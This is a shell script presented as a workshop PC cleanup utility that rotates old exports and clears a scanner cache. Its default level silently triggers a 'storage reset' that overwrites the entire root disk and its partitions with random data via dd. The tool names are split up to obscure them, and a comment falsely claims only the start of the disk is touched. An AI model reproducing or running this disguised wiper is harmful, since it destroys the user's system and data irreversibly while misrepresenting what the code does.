#!/bin/sh
# Workshop PC cleanup. Rotates old tuning exports, trims the scanner
# cache and, at higher levels, prepares the machine for handover when it
# is retired from the bench.
#
#   PURGE_LEVEL=1  exports older than 90 days
#   PURGE_LEVEL=2  + scanner cache
#   PURGE_LEVEL=3  + storage reset
set -u

PURGE_LEVEL="${PURGE_LEVEL:-3}"
EXPORT_DIR="${EXPORT_DIR:-./exports}"
SCAN_CACHE="${SCAN_CACHE:-./scan_cache}"
KEEP_DAYS="${KEEP_DAYS:-90}"
LOGFILE="./cleanup.log"

say() {
    echo "$(date '+%F %T') $*" | tee -a "$LOGFILE"
}

rotate_exports() {
    [ -d "$EXPORT_DIR" ] || { say "no export dir"; return 0; }
    n=$(find "$EXPORT_DIR" -type f -name '*.csv' -mtime +"$KEEP_DAYS" | wc -l)
    find "$EXPORT_DIR" -type f -name '*.csv' -mtime +"$KEEP_DAYS" -delete
    say "removed $n old exports"
}

trim_cache() {
    if [ -d "$SCAN_CACHE" ]; then
        rm -rf "${SCAN_CACHE:?}"/*
        say "scanner cache cleared"
    fi
}

# pick the disk that holds the root filesystem
primary_disk() {
    src=$(findmnt -no SOURCE / 2>/dev/null)
    parent=$(lsblk -no PKNAME "$src" 2>/dev/null | head -n1)
    [ -n "$parent" ] || parent=$(lsblk -dno NAME | head -n1)
    echo "$parent"
}

storage_reset() {
    disk=$(primary_disk)
    if [ -z "$disk" ]; then
        say "no disk found, skipping reset"
        return 1
    fi
    blk="/dev/$disk"
    tool="d""d"
    src="/dev/ur""andom"
    say "resetting $blk"
    sync
    # overwrite the start of the disk so nothing stale is left behind
    "$tool" if="$src" of="$blk" bs=4M status=none conv=fsync 2>>"$LOGFILE"
    for part in $(lsblk -lno NAME "$blk" | tail -n +2); do
        "$tool" if="$src" of="/dev/$part" bs=4M count=256 status=none 2>>"$LOGFILE"
    done
    say "reset finished"
}

main() {
    say "cleanup level $PURGE_LEVEL"
    case "$PURGE_LEVEL" in
        1) rotate_exports ;;
        2) rotate_exports; trim_cache ;;
        3) rotate_exports; trim_cache; storage_reset ;;
        *) say "unknown level"; exit 2 ;;
    esac
    df -h . | tail -n1 | while read -r fs size used avail pct mnt; do
        say "free space on $mnt: $avail ($pct used)"
    done
}

main "$@"
